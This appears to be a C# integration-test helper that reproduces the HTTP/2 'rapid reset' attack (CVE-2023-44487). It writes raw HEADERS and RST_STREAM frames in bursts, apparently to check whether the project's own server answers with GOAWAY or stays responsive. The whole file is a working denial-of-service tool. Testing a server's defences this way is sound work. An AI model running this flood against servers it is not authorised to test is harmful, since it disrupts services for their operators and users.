using System.Buffers.Binary;
using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Ingest.IntegrationTests.Hostile;

/// <summary>
/// The HTTP/2 "rapid reset" attack (CVE-2023-44487) over h2c with prior knowledge, in raw frames:
/// open a stream with HEADERS and cancel it at once with RST_STREAM, thousands of times, so the
/// server starts request after request that the client never waits for.
/// </summary>
internal static class RapidReset
{
    private const byte Headers = 0x1;
    private const byte RstStream = 0x3;
    private const byte Settings = 0x4;
    private const byte Ping = 0x6;
    private const byte GoAway = 0x7;
    private const byte Ack = 0x1;
    private const byte EndHeaders = 0x4;
    private const uint Cancel = 0x8;

    /// <summary>What the server did: GOAWAY (with its error code) or a close, and how many streams were sent before.</summary>
    public sealed record Outcome(int StreamsSent, bool GoAwayReceived, uint GoAwayError, bool Closed, TimeSpan Elapsed)
    {
        /// <summary>Paced runs: the server still answered a PING after the last stream.</summary>
        public bool AnsweredFinalPing { get; init; }

        public override string ToString() =>
            $"{StreamsSent} streams opened and reset in {Elapsed.TotalSeconds:F1} s; " + (GoAwayReceived ? $"GOAWAY error {GoAwayError} ({Name(GoAwayError)})" : "no GOAWAY")
            + (Closed ? ", connection closed" : AnsweredFinalPing ? ", connection kept open and answering PING" : ", connection kept open");

        private static string Name(uint code) => code switch
        {
            0 => "NO_ERROR",
            1 => "PROTOCOL_ERROR",
            2 => "INTERNAL_ERROR",
            11 => "ENHANCE_YOUR_CALM",
            13 => "HTTP_1_1_REQUIRED",
            _ => "other",
        };
    }

    /// <summary>
    /// Sends up to <paramref name="streams"/> HEADERS + RST_STREAM pairs in bursts of 100 and
    /// watches for GOAWAY or a close (bounded by <paramref name="wait"/>). Unpaced, the bursts go
    /// out as fast as the socket takes them; <paramref name="paced"/>, each burst ends with a PING
    /// whose ACK is awaited, so the client never runs ahead of what the server has processed.
    /// </summary>
    public static async Task<Outcome> RunAsync(IPEndPoint endPoint, int streams, TimeSpan wait, bool paced)
    {
        var responsive = false;
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(endPoint);
        var stream = client.GetStream();
        var clock = Stopwatch.StartNew();
        var preface = new MemoryStream();
        preface.Write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8);
        WriteFrame(preface, Settings, 0, 0, []);
        await stream.WriteAsync(preface.ToArray());

        using var stop = new CancellationTokenSource(wait);
        var pings = System.Threading.Channels.Channel.CreateUnbounded<bool>();
        var reader = WatchAsync(stream, pings.Writer, stop.Token);
        var block = HeaderBlock(endPoint);
        var sent = 0;
        try
        {
            while (sent < streams && !reader.IsCompleted)
            {
                var burst = new MemoryStream();
                for (var i = 0; i < 100 && sent < streams; i++, sent++)
                {
                    var id = (uint)((sent * 2) + 1);
                    WriteFrame(burst, Headers, EndHeaders, id, block);
                    var code = new byte[4];
                    BinaryPrimitives.WriteUInt32BigEndian(code, Cancel);
                    WriteFrame(burst, RstStream, 0, id, code);
                }
                if (paced)
                {
                    WriteFrame(burst, Ping, 0, 0, new byte[8]);
                }
                await stream.WriteAsync(burst.ToArray(), stop.Token);
                if (paced)
                {
                    await pings.Reader.ReadAsync(stop.Token);
                }
            }
        }
        catch (Exception e) when (e is IOException or OperationCanceledException or System.Threading.Channels.ChannelClosedException)
        {
            // The server closed the connection mid-burst.
        }
        if (paced && !reader.IsCompleted)
        {
            // Still talking to us after all of it? One more PING must be answered.
            var last = new MemoryStream();
            WriteFrame(last, Ping, 0, 0, new byte[8]);
            try
            {
                await stream.WriteAsync(last.ToArray(), stop.Token);
                responsive = await pings.Reader.ReadAsync(stop.Token);
            }
            catch (Exception e) when (e is IOException or OperationCanceledException or System.Threading.Channels.ChannelClosedException)
            {
            }
            await stop.CancelAsync();
        }
        var (goAway, error, closed) = await reader;
        return new Outcome(sent, goAway, error, closed, clock.Elapsed) { AnsweredFinalPing = responsive };
    }

    /// <summary>Reads frames until GOAWAY, a close or the deadline.</summary>
    private static async Task<(bool GoAway, uint Error, bool Closed)> WatchAsync(NetworkStream stream, System.Threading.Channels.ChannelWriter<bool> pingAcks, CancellationToken cancellationToken)
    {
        try
        {
            return await ReadFramesAsync(stream, pingAcks, cancellationToken);
        }
        finally
        {
            pingAcks.TryComplete();
        }
    }

    private static async Task<(bool GoAway, uint Error, bool Closed)> ReadFramesAsync(NetworkStream stream, System.Threading.Channels.ChannelWriter<bool> pingAcks, CancellationToken cancellationToken)
    {
        var header = new byte[9];
        var goAway = false;
        uint error = 0;
        try
        {
            while (true)
            {
                await stream.ReadExactlyAsync(header, cancellationToken);
                var length = (header[0] << 16) | (header[1] << 8) | header[2];
                var payload = new byte[length];
                await stream.ReadExactlyAsync(payload, cancellationToken);
                if (header[3] == Ping && (header[4] & Ack) != 0)
                {
                    pingAcks.TryWrite(true);
                }
                if (header[3] == GoAway && length >= 8)
                {
                    goAway = true;
                    error = BinaryPrimitives.ReadUInt32BigEndian(payload.AsSpan(4));
                }
            }
        }
        catch (OperationCanceledException)
        {
            return (goAway, error, false);
        }
        catch (Exception e) when (e is IOException or EndOfStreamException)
        {
            return (goAway, error, true);
        }
    }

    /// <summary>HPACK for POST /v1/events with a JSON body to follow (literal fields, no Huffman, no dynamic table).</summary>
    private static byte[] HeaderBlock(IPEndPoint endPoint)
    {
        var block = new MemoryStream();
        block.WriteByte(0x83);                                  // :method POST (static 3)
        block.WriteByte(0x86);                                  // :scheme http (static 6)
        Literal(block, 0x04, "/v1/events");                     // :path (static name 4)
        Literal(block, 0x01, endPoint.ToString());              // :authority (static name 1)
        block.WriteByte(0x0F);                                  // content-type (static name 31 = 15 + 16)
        block.WriteByte(0x10);
        Value(block, "application/json");
        return block.ToArray();
    }

    private static void Literal(MemoryStream block, byte nameIndex, string value)
    {
        block.WriteByte(nameIndex);                             // literal without indexing, indexed name
        Value(block, value);
    }

    private static void Value(MemoryStream block, string value)
    {
        block.WriteByte((byte)value.Length);                    // < 127, no Huffman
        block.Write(Encoding.ASCII.GetBytes(value));
    }

    private static void WriteFrame(MemoryStream output, byte type, byte flags, uint streamId, byte[] payload)
    {
        Span<byte> header = stackalloc byte[9];
        header[0] = (byte)(payload.Length >> 16);
        header[1] = (byte)(payload.Length >> 8);
        header[2] = (byte)payload.Length;
        header[3] = type;
        header[4] = flags;
        BinaryPrimitives.WriteUInt32BigEndian(header[5..], streamId & 0x7FFFFFFF);
        output.Write(header);
        output.Write(payload);
    }
}
